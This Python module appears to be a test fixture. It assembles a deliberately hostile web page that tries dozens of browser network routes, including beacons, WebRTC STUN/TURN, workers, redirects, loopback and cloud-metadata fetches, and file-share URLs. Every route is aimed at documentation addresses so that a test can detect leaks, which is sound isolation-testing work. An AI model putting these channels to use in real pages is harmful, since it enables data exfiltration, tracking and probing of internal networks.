"""Every road out of a browser that we know, as pieces of a hostile page.

Each road leads to an address of its own, so that a capture can tell which were taken: road 17 to 198.51.100.17
(RFC 5737, for documentation) or, where a road needs a name, to r017.sink.test. `IP` and `NAME` stand for these.
"""

HTML = {
    "img": "<img src='https://IP/'>",
    "img by name": "<img src='https://NAME/'>",
    "img srcset": "<img srcset='https://IP/ 2x, https://IP/ 1x'>",
    "img lazy": "<img loading=lazy src='https://IP/'>",
    "img with attribution": "<img attributionsrc='https://IP/' src='data:,'>",
    "picture": "<picture><source srcset='https://IP/'><img></picture>",
    "stylesheet": "<link rel=stylesheet href='https://IP/'>",
    "icon": "<link rel=icon href='https://IP/'>",
    "manifest": "<link rel=manifest href='https://IP/'>",
    "preload": "<link rel=preload as=image href='https://IP/'>",
    "modulepreload": "<link rel=modulepreload href='https://IP/'>",
    "prefetch": "<link rel=prefetch href='https://IP/'>",
    "prerender": "<link rel=prerender href='https://IP/'>",
    "preconnect": "<link rel=preconnect href='https://IP/'>",
    "preconnect by name": "<link rel=preconnect href='https://NAME/'>",
    "dns-prefetch": "<link rel=dns-prefetch href='https://NAME/'>",
    "script": "<script src='https://IP/'></script>",
    "module": "<script type=module src='https://IP/'></script>",
    "iframe": "<iframe src='https://IP/'></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<img src='https://IP/'>\"></iframe>",
    "iframe data": "<iframe src=\"data:text/html,<img src='https://IP/'>\"></iframe>",
    "iframe sandboxed": "<iframe sandbox=allow-scripts srcdoc=\"<script>fetch('https://IP/')</script>\"></iframe>",
    "iframe refreshed": "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=https://IP/'>\"></iframe>",
    "fenced frame": "<fencedframe src='https://IP/'></fencedframe>",
    "object": "<object data='https://IP/'></object>",
    "embed": "<embed src='https://IP/'>",
    "video": "<video autoplay src='https://IP/'></video>",
    "video poster": "<video poster='https://IP/'></video>",
    "audio": "<audio autoplay src='https://IP/'></audio>",
    "track": "<video><track default kind=captions src='https://IP/'></video>",
    "input image": "<input type=image src='https://IP/'>",
    "table background": "<table background='https://IP/'><tr><td>x</table>",
    "style attribute": "<p style='background:url(https://IP/)'>x</p>",
    "css import": "<style>@import url(https://IP/);</style>",
    "css font": "<style>@font-face{font-family:f;src:url(https://IP/)} .f{font-family:f}</style><p class=f>x</p>",
    "css content": "<style>.c::before{content:url(https://IP/)}</style><p class=c>x</p>",
    "css cursor": "<p style='cursor:url(https://IP/),auto'>x</p>",
    "css mask": "<p style='mask-image:url(https://IP/)'>x</p>",
    "css list": "<ul style='list-style-image:url(https://IP/)'><li>x</ul>",
    "css image-set": "<p style='background:image-set(\"https://IP/\" 1x)'>x</p>",
    "svg image": "<svg><image href='https://IP/' width=9 height=9 /></svg>",
    "svg use": "<svg><use href='https://IP/#a' /></svg>",
    "svg filter": "<svg><filter id=f><feImage href='https://IP/'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "svg script": "<svg><script href='https://IP/'></script></svg>",
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://IP/"]}],'
    '"prerender":[{"source":"list","urls":["https://NAME/"]}]}</script>',
    "import map": '<script type=importmap>{"imports":{"far":"https://IP/"}}</script>'
    '<script type=module>import "far"</script>',
    "redirected img": "<img src='/redirect?https://IP/'>",
    "other port of an allowed host": "<img src='https://page.test:8443/IP'>",
    "plain http on an allowed host": "<img src='http://page.test/IP'>",
    "name below an allowed host": "<img src='https://NAME.page.test/'>",
}

SCRIPT = {
    "fetch": "fetch('https://IP/', {mode: 'no-cors'})",
    "fetch by name": "fetch('https://NAME/', {mode: 'no-cors'})",
    "fetch kept alive": "fetch('https://IP/', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch later": "fetchLater('https://IP/', {activateAfter: 0})",
    "fetch to a private address": "fetch('https://IP/', {mode: 'no-cors', targetAddressSpace: 'private'})",
    "redirected fetch": "fetch('/redirect?https://IP/', {mode: 'no-cors'})",
    "request": "const r = new XMLHttpRequest(); r.open('POST', 'https://IP/'); r.send('x')",
    "request in step": "const r = new XMLHttpRequest(); r.open('GET', 'https://IP/', false); r.send()",
    "beacon": "navigator.sendBeacon('https://IP/', 'x')",
    "beacon at the end": "addEventListener('pagehide', () => navigator.sendBeacon('https://IP/', 'x'))",
    "image at the end": "addEventListener('unload', () => { new Image().src = 'https://IP/'; })",
    "events": "new EventSource('https://IP/')",
    "socket": "new WebSocket('wss://IP/')",
    "socket by name": "new WebSocket('wss://NAME/')",
    "socket stream": "new WebSocketStream('wss://IP/')",
    "transport": "new WebTransport('https://IP:4433/')",
    "transport with a certificate": "new WebTransport('https://IP:4433/', {serverCertificateHashes: "
    "[{algorithm: 'sha-256', value: new Uint8Array(32)}]})",
    "transport in a worker": "work(`new WebTransport('https://IP:4433/')`)",
    "peer by STUN": "peer([{urls: 'stun:IP:3478'}])",
    "peer by STUN name": "peer([{urls: 'stun:NAME:3478'}])",
    "peer by TURN": "peer([{urls: 'turn:IP:3478?transport=tcp', username: 'a', credential: 'b'}])",
    "peer by TURN over TLS": "peer([{urls: 'turns:IP:5349', username: 'a', credential: 'b'}])",
    "peer in a frame": "peer([{urls: 'stun:IP:3478'}], frame().contentWindow)",
    "peer in a new window": "peer([{urls: 'stun:IP:3478'}], open('about:blank'))",
    "peer by the old name": "new webkitRTCPeerConnection({iceServers: [{urls: 'stun:IP:3478'}]})"
    ".createDataChannel('x')",
    "peer to a candidate": "answer('IP')",
    "worker fetch": "work(`fetch('https://IP/', {mode: 'no-cors'})`)",
    "worker socket": "work(`new WebSocket('wss://IP/')`)",
    "worker script": "work(`importScripts('https://IP/')`)",
    "worker request": "work(`const r = new XMLHttpRequest(); r.open('GET', 'https://IP/'); r.send()`)",
    "worker in a worker": "work(`new Worker(URL.createObjectURL(new Blob("
    "[\"fetch('https://IP/', {mode: 'no-cors'})\"])))`)",
    "shared worker": "new SharedWorker(blob(`fetch('https://IP/', {mode: 'no-cors'})`))",
    "service worker": "navigator.serviceWorker.register('/worker?https://IP/')",
    "audio worklet": "new AudioContext().audioWorklet.addModule('https://IP/')",
    "paint worklet": "CSS.paintWorklet.addModule('https://IP/')",
    "import": "import('https://IP/')",
    "web assembly": "WebAssembly.instantiateStreaming(fetch('https://IP/'))",
    "font": "document.fonts.add(new FontFace('g', 'url(https://IP/)')); document.fonts.load('1em g')",
    "image": "new Image().src = 'https://IP/'",
    "image by name": "new Image().src = 'https://NAME/'",
    "image in a shadow": "document.body.attachShadow; frame().contentDocument.body.attachShadow({mode: 'closed'})"
    ".innerHTML = `<img src='https://IP/'>`",
    "written": "frame().contentDocument.write(`<img src='https://IP/'>`)",
    "frame by script": "frame().contentWindow.location = 'https://IP/'",
    "frame as script": "frame().src = `javascript:fetch('https://IP/')`",
    "frame from a blob": "frame().src = blob(`<img src='https://IP/'>`, 'text/html')",
    "form": "post('http://IP/', 'GET')",
    "posted form": "post('https://IP/', 'POST')",
    "form to a new window": "post('https://IP/', 'POST', '_blank')",
    "window": "open('http://IP/')",
    "window without opener": "open('https://IP/', '_blank', 'noopener')",
    "window by name": "open('https://NAME/')",
    "window that goes on": "const w = open('about:blank'); w.location = 'http://IP/'",
    "link": "press(`<a href='http://IP/' target=_blank>`)",
    "ping": "press(`<a href='#x' ping='https://IP/'>`)",
    "saved link": "press(`<a href='https://IP/' download>`)",
    "signing in": "navigator.credentials.get({identity: {providers: [{configURL: 'https://IP/c.json', "
    "clientId: 'x'}]}})",
    "signing in by name": "navigator.credentials.get({identity: {providers: [{configURL: 'https://NAME/c.json', "
    "clientId: 'x'}]}})",
    "paying": "new PaymentRequest([{supportedMethods: 'https://IP/pay'}], {total: {label: 'x', "
    "amount: {currency: 'GBP', value: '1'}}}).canMakePayment()",
    "presenting": "new PresentationRequest('https://IP/').start()",
    "remote playback": "const v = document.createElement('video'); v.src = 'https://IP/'; v.remote.prompt()",
    "interest group": "navigator.joinAdInterestGroup({owner: 'https://IP', name: 'x', "
    "biddingLogicURL: 'https://IP/b.js'}, 9)",
    "shared storage": "sharedStorage.createWorklet('https://IP/w.js')",
    "media session": "navigator.mediaSession.metadata = new MediaMetadata({artwork: [{src: 'https://IP/'}]})",
    "notification": "new Notification('x', {icon: 'https://IP/', image: 'https://IP/'})",
    "style sheet": "new CSSStyleSheet().replace('@import url(https://IP/)')",
    "xml style": "frame().src = blob(`<?xml version='1.0'?><?xml-stylesheet href='https://IP/'?><a/>`, 'text/xml')",
    "loopback by number": "fetch('http://127.0.0.1:LOCAL/', {mode: 'no-cors'})",
    "loopback by name": "fetch('http://localhost:LOCAL/', {mode: 'no-cors'})",
    "loopback version 6": "fetch('http://[::1]:LOCAL/', {mode: 'no-cors'})",
    "loopback socket": "new WebSocket('ws://127.0.0.1:LOCAL/')",
    "link-local": "fetch('http://169.254.169.254/', {mode: 'no-cors'})",
    "private": "fetch('http://192.168.0.1/', {mode: 'no-cors'})",
    "multicast": "fetch('http://224.0.0.251:5353/', {mode: 'no-cors'})",
    "version 6": "fetch('http://[2001:db8::1]/', {mode: 'no-cors'})",
    "mail program": "frame().contentWindow.location = 'mailto:a@NAME'",
    "telephone": "frame().contentWindow.location = 'tel:02079460123'",
    "office program": "frame().contentWindow.location = 'ms-word:ofe|u|https://IP/a.docx'",
    "file on a share": "frame().src = 'file://IP/share/x'",
    "file share image": "new Image().src = 'file:////IP/share/x'",
}

# Roads that take the whole page away, each visited by itself.
AWAY = {
    "redirect": ("302", "http://IP/"),
    "redirect over TLS": ("302", "https://NAME/"),
    "refresh": ("200", "<meta http-equiv=refresh content='0;url=http://IP/'>"),
    "location": ("200", "<script>location = 'https://IP/'</script>"),
    "replaced": ("200", "<script>location.replace('http://NAME/')</script>"),
    "submitted": ("200", "<form method=post action='http://IP/'></form><script>document.forms[0].submit()</script>"),
    "pressed": ("200", "<a href='https://IP/'>x</a><script>document.links[0].click()</script>"),
    "reported": ("reports", "http://IP/"),
}

TOOLS = """
const frame = () => document.body.appendChild(document.createElement('iframe'));
const blob = (text, type = 'text/javascript') => URL.createObjectURL(new Blob([text], {type}));
const work = text => new Worker(blob(text));
const press = html => { const box = document.createElement('div'); box.innerHTML = html; document.body.append(box);
  box.firstChild.click(); };
const post = (action, method, target) => { const inner = frame(); inner.name = 'f' + action + method;
  const form = document.createElement('form'); Object.assign(form, {action, method, target: target || inner.name});
  form.append(document.createElement('input')); document.body.append(form); form.submit(); };
const peer = async (iceServers, scope = globalThis) => { const p = new scope.RTCPeerConnection({iceServers});
  p.createDataChannel('x'); await p.setLocalDescription(); };
const answer = async ip => { const a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('x');
  await a.setLocalDescription(); await b.setRemoteDescription(a.localDescription); await b.setLocalDescription();
  await a.setRemoteDescription(b.localDescription);
  await a.addIceCandidate({candidate: `candidate:1 1 udp 2122260223 ${ip} 4444 typ host`, sdpMid: '0'}); };
"""

NAMES = [*HTML, *SCRIPT, *AWAY]


def page(local: int) -> str:
    """The hostile page with every road that leaves it standing. `local` is a loopback port nobody listens on."""
    html = "".join(_aim(piece, name, local) for name, piece in HTML.items())
    script = "".join(
        f"try {{ Promise.resolve((async () => {{ {_aim(piece, name, local)} }})()).catch(() => {{}}); }} catch {{}}\n"
        for name, piece in SCRIPT.items()
    )
    return f"<!doctype html><title>Hostile</title><body><p>words</p>{html}<script>{TOOLS}{script}</script>"


def away(name: str) -> tuple[str, str]:
    """The sort of answer and the words of a page that takes the visitor away."""
    sort, piece = AWAY[name]
    return sort, _aim(piece, name, 9)


def number(name: str) -> int:
    """The road's number, 1 to 254, which its address and its name carry."""
    return NAMES.index(name) + 1


def _aim(piece: str, name: str, local: int) -> str:
    road = number(name)
    aimed = piece.replace("IP", f"198.51.100.{road}").replace("NAME", f"r{road:03}.sink.test")
    return aimed.replace("LOCAL", str(local))
